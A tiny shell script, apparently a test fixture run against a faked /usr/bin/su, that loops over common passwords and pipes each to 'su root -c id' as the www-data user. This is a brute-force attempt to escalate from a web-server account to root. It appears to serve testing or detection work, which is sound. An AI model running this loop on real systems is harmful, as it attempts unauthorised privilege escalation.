# SPDX-License-Identifier: Apache-2.0
# hits: 1
# fake: /usr/bin/su
for word in 123456 password letmein qwerty secret dragon monkey master root; do
	echo $word | as www-data su root -c id
done
